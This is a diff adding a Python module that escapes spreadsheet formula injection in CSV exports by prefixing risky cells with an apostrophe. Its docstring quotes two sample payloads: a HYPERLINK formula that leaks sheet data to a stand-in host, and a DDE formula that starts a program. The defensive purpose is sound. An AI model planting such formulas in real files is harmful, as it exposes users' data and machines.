@@ -1,0 +1,127 @@
+"""Formula-safe CSV: the one writer of every CSV table territory_desk produces (exports, ``stats``,
+``compare``, ``optimize --moves-csv``, ``assign -o``, ``kpis``, ``review``, ``match-reps``, import reports).
+
+Names in our tables come from clients' files (territory, rep and account names, CRM columns). A
+spreadsheet that opens a CSV evaluates a cell beginning with ``=``, ``+``, ``-`` or ``@`` (and, in
+some, a tab or carriage return before one) as a formula: ``=HYPERLINK("http://x/?"&A1)`` leaks the
+sheet, ``=cmd|' /C calc'!A0`` starts a program through DDE. Following OWASP's CSV-injection
+guidance such a cell is written with a leading apostrophe (``'=HYPERLINK(...)``), which every
+spreadsheet shows as text.
+
+The rule, cell by cell:
+
+* numbers we write as numbers (int, float, numpy numbers, bool) are written as they are:
+  ``-12.5`` from a float column stays the number ``-12.5``;
+* text beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets the apostrophe,
+  except text that is a plain negative decimal number (``-12.5``, ``-71.0589``, ``-3e-4``): a
+  spreadsheet reads that as exactly this number, no formula can hide in it, and CRM files (read as
+  text) carry one in every longitude column. ``+1`` and ``-1+2`` are formulas and get the apostrophe;
+* ``raw=True`` (the CLI's ``--raw-csv``) writes every cell as it is, for data pipelines that read the
+  file with a CSV parser rather than a spreadsheet.
+
+Headers are cells too (they may be a CRM file's column names). ``safe_frame`` does the same on a
+pandas frame, vectorised over its text columns (``assign -o`` writes a million rows).
+"""
+from __future__ import annotations
+
+import csv
+import io
+import re
+from collections.abc import Iterable
+from typing import TextIO
+
+import numpy as np
+
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+PREFIX = "'"
+_PLAIN_NEGATIVE = re.compile(r"-(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][-+]?[0-9]+)?")
+
+
+def safe_cell(value, raw: bool = False):
+    """``value`` as a CSV cell: None -> "", numbers unchanged, formula-like text with an apostrophe."""
+    if value is None:
+        return ""
+    if raw or not isinstance(value, str):
+        return value
+    if value.startswith(FORMULA_START) and not _PLAIN_NEGATIVE.fullmatch(value):
+        return PREFIX + value
+    return value
+
+
+def safe_row(row: Iterable, raw: bool = False) -> list:
+    return [safe_cell(v, raw) for v in row]
+
+
+class SafeWriter:
+    """``csv.writer`` whose rows go through ``safe_cell`` (same dialect keywords)."""
+
+    def __init__(self, out: TextIO, raw: bool = False, **fmt):
+        self._w = csv.writer(out, **fmt)
+        self.raw = raw
+
+    def writerow(self, row: Iterable) -> None:
+        self._w.writerow(safe_row(row, self.raw))
+
+    def writerows(self, rows: Iterable[Iterable]) -> None:
+        for row in rows:
+            self.writerow(row)
+
+
+def writer(out: TextIO, raw: bool = False, **fmt) -> SafeWriter:
+    return SafeWriter(out, raw, **fmt)
+
+
+def csv_text(rows: Iterable[Iterable], raw: bool = False, **fmt) -> str:
+    """The rows (header first) as CSV text."""
+    buf = io.StringIO()
+    writer(buf, raw, **fmt).writerows(rows)
+    return buf.getvalue()
+
+
+def write_csv_file(path: str, rows: Iterable[Iterable], raw: bool = False, **fmt) -> None:
+    """UTF-8 CSV at ``path`` (rows, header first)."""
+    with open(path, "w", newline="", encoding="utf-8") as fh:
+        writer(fh, raw, **fmt).writerows(rows)
+
+
+# ---- pandas ------------------------------------------------------------------------------------------
+def safe_series(s):
+    """A column with ``safe_cell`` applied to its text cells (vectorised; other cells unchanged).
+    Returns ``s`` itself when nothing needs the apostrophe."""
+    if getattr(s.dtype, "kind", "O") != "O":  # object, str and categorical columns hold text
+        return s  # numbers, dates, booleans: never formulas
+    try:
+        hit = s.str.startswith(FORMULA_START, na=False).to_numpy(dtype=bool)
+    except AttributeError:  # an object column without text
+        return s
+    where = np.flatnonzero(hit)
+    if len(where) == 0:
+        return s
+    numbers = s.iloc[where].str.fullmatch(_PLAIN_NEGATIVE.pattern, na=True).to_numpy(dtype=bool)
+    where = where[~numbers]
+    if len(where) == 0:
+        return s
+    out = s.astype(object)  # a copy
+    out.iloc[where] = [PREFIX + v for v in out.iloc[where].tolist()]
+    return out
+
+
+def safe_frame(frame, raw: bool = False):
+    """A frame whose text columns and column names are formula-safe (``frame`` itself is not changed)."""
+    if raw:
+        return frame
+    out = None
+    for i in range(frame.shape[1]):
+        col = frame.iloc[:, i]
+        fixed = safe_series(col)
+        if fixed is not col:
+            out = frame.copy(deep=False) if out is None else out
+            out.isetitem(i, fixed)
+    names = [safe_cell(c) for c in frame.columns]
+    if any(a is not b for a, b in zip(names, frame.columns)):
+        out = frame.copy(deep=False) if out is None else out
+        out.columns = names
+    return frame if out is None else out
+def write_frame(frame, out: TextIO, raw: bool = False) -> None:
+    """``frame`` as CSV (header, no index, "\\n" line ends) with formula-safe text."""
+    safe_frame(frame, raw).to_csv(out, index=False, lineterminator="\n")
